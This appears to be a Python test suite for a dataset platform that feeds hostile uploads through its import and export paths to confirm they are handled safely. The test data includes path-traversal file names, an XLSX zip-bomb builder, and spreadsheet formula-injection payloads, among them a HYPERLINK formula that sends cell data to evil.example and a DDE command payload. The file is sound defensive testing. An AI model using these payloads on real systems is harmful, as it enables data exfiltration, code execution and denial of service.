"""Hostile and malformed uploads, and exports that a spreadsheet opens.

Every file goes the real way (API upload in chunks, preview, import job, pipeline) into a
sandbox: the test's data directory is a temporary folder beside a sentinel folder. Each time
the import either succeeds or fails with an error that says what is wrong and where (the job's
message, the report's row, column and reason) — never an unhandled exception, never a 500 —
nothing is written outside the data directory, the dataset's earlier version is untouched, and
a normal import still works afterwards.
"""

import csv
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from rest_framework.test import APIClient

from console.roles import Role
from labeling.datasets import dataset_create, upload_create
from labeling.exports import FORMULA_PREFIXES, neutralise
from labeling.imports import import_run
from labeling.models import DatasetVersion, ImportJob, Upload
from labeling.readers import ENCODINGS, MAX_LINE_CHARS, XLSX_MAX_ROWS

HYPOTHESIS = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,  # no .hypothesis folder in the checkout; derandomized runs repeat anyway
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
GOOD_CSV = "text,label\n房间很干净,正面\n早餐太差,负面\n服务热情,正面\n".encode()
REASON = re.compile(r"^[a-z_]+$")
MAPPING = {"text": "text", "label": "label"}


# -- The sandbox, the dataset and its first version --------------------------------------------


class Sandbox:
    """The test's data directory (storage and upload staging) and, beside it, a folder with a
    sentinel file that no upload may reach."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.data = root / "data"
        self.outside = root / "outside"
        self.outside.mkdir()
        (self.outside / "sentinel.txt").write_text("untouched")
        self.before = self.listing()

    def listing(self) -> dict[str, str]:
        """Every file under the sandbox's root but outside the data directory, with its hash."""
        return {
            str(p.relative_to(self.root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in self.root.rglob("*")
            if p.is_file() and self.data not in p.parents
        }

    def assert_untouched(self) -> None:
        assert self.listing() == self.before
        assert sorted(p.name for p in self.root.iterdir()) == ["data", "outside"]


@pytest.fixture
def sandbox(tmp_path, settings) -> Sandbox:
    box = Sandbox(tmp_path)
    settings.MEDIA_ROOT = box.data / "media"
    settings.UPLOAD_STAGING_DIR = box.data / "uploads"
    return box


@pytest.fixture
def api(owner):
    client = APIClient()
    client.force_authenticate(owner)
    client.credentials(HTTP_ACCEPT_LANGUAGE="en")  # the messages asserted are the English ones
    return client


@pytest.fixture
def dataset(owner, team, sandbox):
    return dataset_create(actor=owner, team=team, name="酒店评论", task_kind="text_classification")


class Baseline:
    """The dataset's first version and the bytes of its files, to prove them untouched."""

    def __init__(self, version: DatasetVersion) -> None:
        self.version = version
        self.files = {name: self.read(name) for name in self.names()}
        self.fields = self.state()

    def names(self) -> list[str]:
        v = self.version
        return [n for n in (v.data_file, v.report_file, v.original_file) if n]

    @staticmethod
    def read(name: str) -> bytes:
        with default_storage.open(name, "rb") as f:
            return f.read()

    def state(self) -> tuple:
        v = DatasetVersion.objects.get(pk=self.version.pk)
        return (v.number, v.content_hash, v.row_count, v.data_file, v.split_counts, v.stats)

    def assert_intact(self) -> None:
        assert self.state() == self.fields
        assert {n: self.read(n) for n in self.names()} == self.files


@pytest.fixture
def baseline(api, team, dataset) -> Baseline:
    job = hostile_import(api, team, dataset, "reviews.csv", GOOD_CSV)
    assert job.status == ImportJob.Status.SUCCEEDED, job.error
    return Baseline(job.version)


# -- The real path, and what a clear outcome is -------------------------------------------------


def hostile_import(
    api, team, dataset, filename: str, data: bytes, **import_fields
) -> ImportJob | None:
    """Upload ``data`` through the API under ``filename``, preview it and import it as the
    Celery task does. None when the upload itself was refused (with a 400 that says why)."""
    base = f"/api/v1/teams/{team.slug}/"
    # json.dumps escapes what UTF-8 cannot carry (a lone surrogate), as a hostile client would.
    created = api.post(
        base + "uploads/",
        json.dumps({"filename": filename, "size": len(data)}),
        content_type="application/json",
    )
    if created.status_code == 400:
        assert created.json(), "a refused upload says why"
        return None
    assert created.status_code == 201, created.content
    upload_id = created.json()["id"]
    sent = api.put(
        f"{base}uploads/{upload_id}/",
        data=data,
        content_type="application/octet-stream",
        HTTP_CONTENT_RANGE=f"bytes 0-{len(data) - 1}/{len(data)}",
    )
    assert sent.status_code == 200 and sent.json()["status"] == "complete", sent.content
    upload = Upload.objects.get(pk=upload_id)
    # The user's name is a label only: storage holds the upload under its UUID.
    assert upload.storage_name == f"teams/{team.pk}/uploads/{upload.pk}"
    assert "/" not in upload.filename and "\x00" not in upload.filename
    assert len(upload.filename) <= 255
    preview = api.get(f"{base}uploads/{upload_id}/preview/", {"dataset": dataset.pk})
    assert preview.status_code == 200, preview.content
    assert {"format", "columns", "rows", "error"} <= preview.json().keys()
    started = api.post(
        f"{base}datasets/{dataset.pk}/imports/",
        {"upload": upload_id, **import_fields},
        format="json",
    )
    if started.status_code == 400:
        assert started.json()
        return None
    assert started.status_code == 202, started.content
    # What the Celery task does (in English: the request left its own language active).
    with translation.override("en"):
        job = import_run(started.json()["id"])
    assert_clear(job)
    return job


def report_of(job: ImportJob) -> list[dict]:
    if not job.report_file:
        return []
    with default_storage.open(job.report_file, "rb") as f:
        return [json.loads(line) for line in f]


def assert_clear(job: ImportJob) -> None:
    """A finished job: a version, or an error for the user; each reported row says where
    (row, column) and why (reason, message)."""
    assert job.status in (ImportJob.Status.SUCCEEDED, ImportJob.Status.FAILED)
    if job.status == ImportJob.Status.FAILED:
        assert job.error and not job.error.startswith("Internal error"), job.error
        assert job.version is None
    else:
        assert job.version is not None or job.identical_to is not None
    for entry in report_of(job):
        assert isinstance(entry["row"], int) and entry["row"] >= 1, entry
        assert REASON.match(entry["reason"]), entry
        assert isinstance(entry["column"], str)
        assert entry["message"].strip(), entry


def assert_still_works(api, team, dataset, sandbox, baseline) -> None:
    """After the hostile inputs: the earlier version as it was, nothing outside the data
    directory, and a normal import still makes a version."""
    baseline.assert_intact()
    sandbox.assert_untouched()
    marker = f"之后的正常导入{DatasetVersion.objects.count()}"
    data = GOOD_CSV + f"{marker},正面\n".encode()
    job = hostile_import(api, team, dataset, "after.csv", data)
    assert job.status == ImportJob.Status.SUCCEEDED and job.version is not None, job.error
    assert job.version.row_count == 4


# -- Generated files ----------------------------------------------------------------------------

FORMATS = st.sampled_from(["csv", "tsv", "jsonl", "json", "xlsx", "txt", "bin"])
DECLARED = st.one_of(st.none(), st.sampled_from([*ENCODINGS, "latin-1", "utf-16", ""]))
CELL = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8", exclude_categories=["Cs"]),
        st.sampled_from('",\t\r\n=+-@\\\ufeff\u3000'),
    ),
    max_size=40,
)


def xlsx_bytes(rows: list[list]) -> bytes:
    """A workbook of ``rows``, the same bytes whenever it is made: openpyxl writes the time into
    docProps/core.xml and the zip's entries, and hypothesis draws positions within the length
    (a length that changed between runs made the strategy "flaky")."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    saved = io.BytesIO()
    book.save(saved)
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "docProps/core.xml":
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", data)
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def with_sheet(workbook: bytes, sheet_xml: bytes) -> bytes:
    """A copy of ``workbook`` whose first sheet's XML is ``sheet_xml``."""
    src = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name = info.filename
            dst.writestr(name, sheet_xml if name == "xl/worksheets/sheet1.xml" else src.read(name))
    return out.getvalue()


@st.composite
def text_files(draw) -> tuple[str, bytes]:
    """Rows of odd text, written as CSV, TSV or JSONL in an encoding that may not be the one
    the import is told, with some huge lines."""
    rows = draw(st.lists(st.lists(CELL, min_size=1, max_size=4), min_size=1, max_size=8))
    if draw(st.booleans()):
        rows.append(["长" * draw(st.integers(10_000, 200_000)), "正面"])
    fmt = draw(st.sampled_from(["csv", "tsv", "jsonl"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "big5"]))
    if fmt == "jsonl":
        text = "".join(
            json.dumps(dict(zip(["text", "label", "x", "y"], r, strict=False)), ensure_ascii=False)
            + "\n"
            for r in rows
        )
    else:
        buf = io.StringIO()
        csv.writer(buf, delimiter="\t" if fmt == "tsv" else ",").writerows(
            [["text", "label"], *rows]
        )
        text = buf.getvalue()
    return f"data.{fmt}", text.encode(encoding, errors="replace")


def json_values(max_leaves: int = 20):
    return st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=True, allow_infinity=True)
        | CELL,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(CELL, inner, max_size=4),
        max_leaves=max_leaves,
    )


@st.composite
def jsonl_files(draw) -> tuple[str, bytes]:
    """JSON lines of any shape: objects with odd values, other JSON values, broken JSON."""
    lines = []
    for _ in range(draw(st.integers(1, 6))):
        kind = draw(st.sampled_from(["object", "value", "broken", "deep"]))
        if kind == "object":
            record = draw(
                st.fixed_dictionaries(
                    {"text": json_values(4), "label": json_values(4)},
                    optional={"entities": json_values(), "messages": json_values()},
                )
            )
            lines.append(json.dumps(record, ensure_ascii=False))
        elif kind == "value":
            lines.append(json.dumps(draw(json_values()), ensure_ascii=False))
        elif kind == "broken":
            lines.append(draw(st.text(max_size=60)).replace("\n", " "))
        else:
            depth = draw(st.integers(1, 50_000))
            lines.append('{"text": ' + "[" * depth + "]" * depth + ', "label": "正面"}')
    data = "\n".join(lines).encode("utf-8", errors="surrogatepass")
    return draw(st.sampled_from(["rows.jsonl", "rows.json"])), data


@st.composite
def xlsx_files(draw) -> tuple[str, bytes]:
    """Workbooks with odd cells, and valid workbooks with bytes flipped or cut short."""
    rows = draw(
        st.lists(
            st.lists(
                st.one_of(
                    st.none(),
                    st.integers(-(10**15), 10**15),
                    st.floats(allow_nan=False),
                    # What XML can hold (openpyxl refuses to write the rest).
                    CELL.map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text)),
                ),
                min_size=1,
                max_size=4,
            ),
            min_size=0,
            max_size=6,
        )
    )
    header = draw(st.sampled_from([["text", "label"], [], [None, None], ["", "文本"]]))
    data = bytearray(xlsx_bytes(([header] if header else []) + rows))
    damage = draw(st.sampled_from(["none", "flip", "cut"]))
    if damage == "flip":
        for _ in range(draw(st.integers(1, 8))):
            position = draw(st.integers(0, len(data) - 1))
            data[position] ^= draw(st.integers(1, 255))
    elif damage == "cut":
        data = data[: draw(st.integers(0, len(data) - 1))]
    return draw(st.sampled_from(["book.xlsx", "book.csv", "book"])), bytes(data)


ODD_NAMES = [
    "../../etc/passwd",
    "../../outside/pwned.csv",
    "..\\..\\outside\\pwned.csv",
    "/etc/passwd",
    "/var/tmp/x.csv",  # noqa: S108 - a name, never a path
    "C:\\Windows\\system.ini",
    "a\x00.csv",
    "../\x00../outside/x.jsonl",
    "..",
    ".",
    "\u202ecsv.exe",
    "名字" * 100 + ".csv",
    "x" * 5000 + ".xlsx",
    "line\r\nbreak.csv",
    "评论 数据（最终版）.csv",
    "😀.jsonl",
    "\ud800.csv",
]
FILENAMES = st.one_of(st.sampled_from(ODD_NAMES), st.text(max_size=300))


@HYPOTHESIS
@given(data=st.binary(max_size=4096), name=FORMATS.map(lambda fmt: f"f.{fmt}"))
def test_random_bytes(api, team, dataset, sandbox, baseline, data, name):
    if data:
        hostile_import(api, team, dataset, name, data)
    baseline.assert_intact()
    sandbox.assert_untouched()


@HYPOTHESIS
@given(file=text_files(), declared=DECLARED)
def test_text_in_wrong_encodings_with_huge_lines(
    api, team, dataset, sandbox, baseline, file, declared
):
    name, data = file
    fields = {} if declared is None else {"encoding": declared}
    job = hostile_import(api, team, dataset, name, data, **fields)
    if declared not in (None, *ENCODINGS):
        assert job is None  # an encoding the platform does not offer is refused up front
    baseline.assert_intact()
    sandbox.assert_untouched()


@HYPOTHESIS
@given(file=jsonl_files())
def test_json_of_any_shape_and_depth(api, team, dataset, sandbox, baseline, file):
    name, data = file
    hostile_import(
        api, team, dataset, name, data, format="jsonl", mapping={"text": "text", "label": "label"}
    )
    baseline.assert_intact()
    sandbox.assert_untouched()


@HYPOTHESIS
@given(file=xlsx_files())
def test_broken_and_odd_workbooks(api, team, dataset, sandbox, baseline, file):
    hostile_import(api, team, dataset, *file)
    baseline.assert_intact()
    sandbox.assert_untouched()


@HYPOTHESIS
@given(name=FILENAMES)
def test_path_traversal_and_odd_file_names(api, team, dataset, sandbox, baseline, name):
    # The file is CSV whatever its name says (a name ending in .xlsx would be read as XLSX).
    job = hostile_import(api, team, dataset, name, GOOD_CSV, format="csv")
    if job is not None:
        assert job.status == ImportJob.Status.SUCCEEDED, job.error
        upload = job.upload
        download = api.get(
            f"/api/v1/teams/{team.slug}/datasets/{dataset.pk}/versions/"
            f"{(job.version or job.identical_to).number}/download/original/"
        )
        assert download.status_code == 200
        disposition = download["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition
        assert b"".join(download.streaming_content) == GOOD_CSV
        assert upload.filename and not set(upload.filename) & {"/", "\x00", "\r", "\n"}
    sandbox.assert_untouched()


def test_file_names_the_api_lets_through_are_cleaned_by_the_service(owner, team, sandbox):
    """Names that reach the service other than through the API's validation: a line break
    made the original's download header invalid (a 500); a NUL is refused by PostgreSQL."""

    def name_of(filename: str) -> str:
        return upload_create(actor=owner, team=team, filename=filename, size=1).filename

    assert name_of("../../outside/line\r\nbreak.csv") == "linebreak.csv"
    assert name_of("C:\\temp\\a\x00b.csv") == "ab.csv"
    assert name_of("名" * 300 + ".xlsx") == "名" * 250 + ".xlsx"
    for refused in ["..", "/", "\x00", "\ud800.csv"]:
        with pytest.raises(ValidationError):
            name_of(refused)
    assert not any((sandbox.data / "uploads").glob("*/**"))
    sandbox.assert_untouched()


def test_after_every_kind_of_hostile_input_the_server_still_imports(
    api, team, dataset, sandbox, baseline
):
    for name, data in [
        ("a.csv", b"\xff\xfe\x00garbage\x00"),
        ("a.xlsx", b"PK\x03\x04" + b"\x00" * 100),
        ("a.jsonl", b"[" * 100_000),
        ("../../outside/a.csv", GOOD_CSV),
    ]:
        hostile_import(api, team, dataset, name, data)
    assert_still_works(api, team, dataset, sandbox, baseline)


# -- Named crashes, each fixed -----------------------------------------------------------------


def test_json_the_parser_cannot_take_is_a_row_error(api, team, owner, sandbox):
    """Each line was an unhandled exception before: RecursionError, ValueError (int too long),
    UnicodeEncodeError (a lone surrogate written out), OverflowError (int(Infinity))."""
    ner = dataset_create(actor=owner, team=team, name="实体", task_kind="ner")
    deep = "[" * 100_000 + "]" * 100_000
    lines = [
        {"text": "张三在北京", "entities": [{"start": 0, "end": 2, "label": "PER"}]},
        '{"text": ' + deep + "}",
        '{"text": ' + "9" * 5000 + "}",
        '{"text": "\\ud800 半个代理对"}',
        {"text": "李四", "entities": deep},
        {"text": "王五", "entities": "[" + "9" * 5000 + "]"},
        {"text": "赵六", "entities": [{"start": 0, "end": 1, "label": "P\u0000ER"}]},
    ]
    data = "\n".join(x if isinstance(x, str) else json.dumps(x, ensure_ascii=False) for x in lines)
    job = hostile_import(
        api,
        team,
        ner,
        "ner.jsonl",
        data.encode(),
        format="jsonl",
        mapping={"text": "text", "entities": "entities"},
    )
    assert job.status == ImportJob.Status.SUCCEEDED and job.version.row_count == 1
    report = {e["row"]: e for e in report_of(job)}
    assert {row: (e["reason"], e["column"]) for row, e in report.items()} == {
        2: ("bad_json", ""),
        3: ("bad_json", ""),
        4: ("bad_json", ""),
        5: ("bad_json", "entities"),
        6: ("bad_json", "entities"),
        7: ("bad_labels", "entities"),
    }
    assert "nested too deeply" in report[2]["message"]
    assert "digits" in report[3]["message"]
    assert "surrogate" in report[4]["message"]
    assert "U+0000" in report[7]["message"]
    # Nothing the database would refuse (PostgreSQL's JSON holds no U+0000) reached it.
    assert "\\u0000" not in json.dumps(job.version.stats)

    chat = dataset_create(actor=owner, team=team, name="对话", task_kind="instruction")
    lines = [
        '{"instruction": "你好", "output": "你好！", "rating": Infinity}',
        '{"instruction": "再见", "output": "再见！", "rating": 5}',
    ]
    job = hostile_import(
        api,
        team,
        chat,
        "chat.jsonl",
        "\n".join(lines).encode(),
        format="jsonl",
        mapping={"instruction": "instruction", "output": "output", "rating": "rating"},
    )
    assert job.status == ImportJob.Status.SUCCEEDED and job.version.row_count == 1
    assert [(e["row"], e["reason"]) for e in report_of(job)] == [(1, "bad_json")]
    assert "Infinity is not a JSON value" in report_of(job)[0]["message"]


def test_lines_longer_than_the_limit_are_refused_without_reading_them_whole(
    api, team, dataset, sandbox, baseline
):
    huge = "长" * (MAX_LINE_CHARS + 10)
    # CSV: the file is refused, naming the line.
    data = f"text,label\n短,正面\n{huge},负面\n".encode()
    # (The preview stops at the long line: the import is told the mapping.)
    job = hostile_import(api, team, dataset, "long.csv", data, mapping=MAPPING)
    assert job.status == ImportJob.Status.FAILED
    assert job.error == f"Line 3: The line is longer than {MAX_LINE_CHARS} characters."
    # A quoted value over the limit that spans short lines: refused too, naming the row (the
    # csv module could not tell where the next row starts).
    spread = "\n".join(["长" * 1000] * (MAX_LINE_CHARS // 1000 + 10))
    data = f'text,label\n短,正面\n"{spread}",负面\n后面,正面\n'.encode()
    job = hostile_import(api, team, dataset, "spread.csv", data, mapping=MAPPING)
    assert job.status == ImportJob.Status.FAILED
    assert job.error == f"Row 3: A value is longer than {MAX_LINE_CHARS} characters."
    # JSONL: the line is a row of the report; the others are imported.
    data = "\n".join(
        [
            json.dumps({"text": "第一行", "label": "正面"}, ensure_ascii=False),
            json.dumps({"text": huge, "label": "正面"}, ensure_ascii=False),
            json.dumps({"text": "第三行", "label": "负面"}, ensure_ascii=False),
        ]
    ).encode()
    job = hostile_import(api, team, dataset, "long.jsonl", data)
    assert job.status == ImportJob.Status.SUCCEEDED and job.version.row_count == 2, job.error
    assert [(e["row"], e["reason"]) for e in report_of(job)] == [(2, "too_long")]
    assert_still_works(api, team, dataset, sandbox, baseline)


# -- XLSX bombs --------------------------------------------------------------------------------


def bomb(expanded_mb: int) -> bytes:
    """A workbook whose sheet XML is ``expanded_mb`` MB of rows, deflated to a few hundred KB
    (written in blocks: the test never holds the expanded sheet)."""
    workbook = xlsx_bytes([["text", "label"], ["好", "正面"]])
    src = zipfile.ZipFile(io.BytesIO(workbook))
    row = b'<row><c t="inlineStr"><is><t>AAAA</t></is></c></row>'
    block = row * (2**20 // len(row))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info.filename))
                continue
            with dst.open(info.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/')
                sheet.write(b'spreadsheetml/2006/main"><sheetData>')
                for _ in range(expanded_mb):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_xlsx_zip_bomb_is_refused_before_it_expands(api, team, dataset, sandbox, baseline):
    data = bomb(300)
    assert len(data) < 2 * 2**20
    job = hostile_import(api, team, dataset, "bomb.xlsx", data)
    assert job.status == ImportJob.Status.FAILED
    assert job.error.startswith("“xl/worksheets/sheet1.xml” in the workbook expands from")
    assert "more than 100 times: refused as a possible zip bomb" in job.error
    preview = api.get(
        f"/api/v1/teams/{team.slug}/uploads/{job.upload.pk}/preview/", {"dataset": dataset.pk}
    ).json()
    assert "zip bomb" in preview["error"] and preview["rows"] == []
    assert_still_works(api, team, dataset, sandbox, baseline)


def test_xlsx_over_the_uncompressed_limit_is_refused(api, team, dataset, sandbox, settings):
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = 2 * 2**20
    rows = [["text", "label"]] + [[f"评论{i}" * 20, "正面"] for i in range(8000)]
    job = hostile_import(api, team, dataset, "big.xlsx", xlsx_bytes(rows))
    assert job.status == ImportJob.Status.FAILED
    assert job.error == (
        "The workbook expands to more than 2 MB, the limit of this platform "
        "(PLATFORM_XLSX_MAX_UNCOMPRESSED_MB): save its sheet as CSV instead."
    )


def test_xlsx_declared_dimensions_are_not_trusted(api, team, dataset, sandbox, baseline):
    """A sheet that declares A1:XFD1048576 made openpyxl pad every row to 16,384 cells (hours
    for a sheet of many rows); its real cells are read instead. Rows beyond what a sheet can
    hold are refused, naming the row, after cheap empty rows only."""
    workbook = xlsx_bytes([["text", "label"], ["好", "正面"], ["差", "负面"]])
    sheet = zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml")
    declared = with_sheet(
        workbook,
        sheet.replace(b'<dimension ref="A1:B3"/>', b'<dimension ref="A1:XFD1048576"/>'),
    )
    job = hostile_import(api, team, dataset, "declared.xlsx", declared)
    assert job.status == ImportJob.Status.SUCCEEDED and job.version.row_count == 2, job.error
    upload = job.upload
    preview = api.get(
        f"/api/v1/teams/{team.slug}/uploads/{upload.pk}/preview/", {"dataset": dataset.pk}
    ).json()
    assert preview["columns"] == ["text", "label"]

    far_row = f'<row r="{XLSX_MAX_ROWS * 2000}"><c r="A{XLSX_MAX_ROWS * 2000}" t="inlineStr">'
    far = with_sheet(
        workbook,
        sheet.replace(
            b"</sheetData>", far_row.encode() + b"<is><t>x</t></is></c></row></sheetData>"
        ),
    )
    job = hostile_import(api, team, dataset, "far.xlsx", far, mapping=MAPPING)
    assert job.status == ImportJob.Status.FAILED
    assert (
        job.error == f"Row {XLSX_MAX_ROWS + 1}: an XLSX sheet holds at most {XLSX_MAX_ROWS} rows."
    )

    wide = with_sheet(
        workbook,
        sheet.replace(b"</sheetData>", b'<row r="9"><c r="ZZZZZ9"><v>1</v></c></row></sheetData>'),
    )
    job = hostile_import(api, team, dataset, "wide.xlsx", wide, mapping=MAPPING)
    assert job.status == ImportJob.Status.FAILED
    assert job.error.startswith("After row 3, the sheet cannot be read: 'ZZZZZ'")
    assert_still_works(api, team, dataset, sandbox, baseline)


# -- Exports that a spreadsheet opens ----------------------------------------------------------

FORMULAS = [
    "=1+2",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
]


def test_neutralise_follows_owasp():
    for value in [*FORMULAS, "\t=1+2", "\r=1+2"]:
        assert neutralise(value) == "'" + value
    for value in ["好评", "1+2", " =1", "", "'=1"]:
        assert neutralise(value) == value
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def formula_version(api, team, owner, sandbox):
    dataset = dataset_create(actor=owner, team=team, name="公式", task_kind="multi_label")
    records = [{"text": text, "labels": ["正常", "=1+1"]} for text in FORMULAS] + [
        {"text": "普通的评论", "labels": ["正常"]},
        {"text": "控制\u0001字符", "labels": []},
    ]
    data = "\n".join(json.dumps(r, ensure_ascii=False) for r in records).encode()
    job = hostile_import(
        api,
        team,
        dataset,
        "f.jsonl",
        data,
        format="jsonl",
        mapping={"text": "text", "labels": "labels"},
        ratios=[1, 0, 0],
    )
    assert job.status == ImportJob.Status.SUCCEEDED and job.version.row_count == 8, job.error
    return job.version


def download(api, team, version, kind: str):
    response = api.get(
        f"/api/v1/teams/{team.slug}/datasets/{version.dataset.pk}/versions/"
        f"{version.number}/download/{kind}/"
    )
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def test_csv_export_neutralises_formulas(api, team, formula_version):
    response, body = download(api, team, formula_version, "csv")
    assert response["Content-Type"] == "text/csv"
    assert "attachment" in response["Content-Disposition"]
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["text", "labels", "split"]
    texts = {r[0] for r in rows[1:]}
    assert texts == {"'" + f for f in FORMULAS} | {"普通的评论", "控制\u0001字符"}
    assert {r[1] for r in rows[1:]} == {"正常|=1+1", "正常", ""}
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), cell


def test_xlsx_export_writes_formulas_as_text(api, team, formula_version):
    response, body = download(api, team, formula_version, "xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # not one formula
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["text", "labels", "split"]
    for row in rows:
        for cell in row:
            if cell.value is not None:  # "" reads back as an empty cell
                assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.value)
                assert cell.quotePrefix, cell.coordinate
    # The text as it is, without a visible quote; XML's forbidden characters replaced.
    texts = {row[0].value for row in rows[1:]}
    assert texts == {*FORMULAS, "普通的评论", "控制\ufffd字符"}


def test_jsonl_download_stays_verbatim(api, team, formula_version):
    _response, body = download(api, team, formula_version, "normalized")
    texts = {json.loads(line)["text"] for line in body.splitlines()}
    assert texts == {*FORMULAS, "普通的评论", "控制\u0001字符"}


def test_console_downloads_the_csv_export(client, owner, team, formula_version):
    client.force_login(owner)
    response = client.get(
        f"/t/{team.slug}/datasets/{formula_version.dataset.pk}/v/{formula_version.number}/"
        "download/csv/"
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=1+2" in body


def test_a_viewer_may_download_the_export_another_team_may_not(
    make_user, make_team, team, formula_version
):
    viewer, stranger = make_user("vera"), make_user("sam")
    team.memberships.create(user=viewer, role=Role.VIEWER)
    make_team("Other", {stranger: Role.OWNER})
    path = (
        f"/api/v1/teams/{team.slug}/datasets/{formula_version.dataset.pk}/versions/"
        f"{formula_version.number}/download/xlsx/"
    )
    client = APIClient()
    client.force_authenticate(viewer)
    assert client.get(path).status_code == 200
    client.force_authenticate(stranger)
    assert client.get(path).status_code == 404
